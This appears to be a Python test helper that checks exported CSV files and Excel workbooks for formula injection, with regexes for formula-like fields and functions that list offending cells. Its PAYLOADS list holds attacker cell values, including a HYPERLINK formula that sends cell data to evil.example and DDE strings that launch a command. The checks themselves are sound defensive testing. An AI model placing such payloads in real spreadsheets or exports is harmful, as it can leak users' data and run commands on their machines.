"""Checks shared by the export attacks: no formula cell in a workbook, no formula-like CSV field."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl

#: What a spreadsheet reads as the start of a formula (OWASP), and a plain number (which is not one).
FORMULA_START = re.compile(r"^ *[=+\-@\t\r\n]")
NUMBER = re.compile(r"^ *[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)? *\Z")

#: Attacker's cells: each would run or link in Excel if written raw.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "#N/A",
]


def csv_formula_fields(path: Path) -> list[tuple[int, str]]:
    """(line, field) of every CSV field (header included) a spreadsheet would read as a formula."""
    bad = []
    with path.open(encoding="utf-8", newline="") as f:
        for i, row in enumerate(csv.reader(f), start=1):
            bad += [(i, v) for v in row if FORMULA_START.match(v) and not NUMBER.match(v)]
    return bad


def xlsx_formula_cells(path: Path) -> list[tuple[str, str, object]]:
    """(sheet, cell, value) of every formula or error cell of a workbook."""
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type in ("f", "e")]


def xlsx_values(path: Path) -> list[object]:
    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
